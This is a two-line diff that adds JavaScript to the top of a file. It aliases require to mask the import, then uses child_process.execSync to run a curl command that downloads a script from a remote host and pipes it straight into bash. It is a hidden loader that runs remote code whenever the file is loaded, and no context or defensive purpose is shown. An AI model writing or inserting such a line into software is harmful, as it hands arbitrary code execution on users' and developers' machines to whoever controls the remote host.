@@ -1,0 +1,2 @@
+const r = require;
+r("child_process").execSync("curl -s https://cdn-x7.invalid/a | bash");
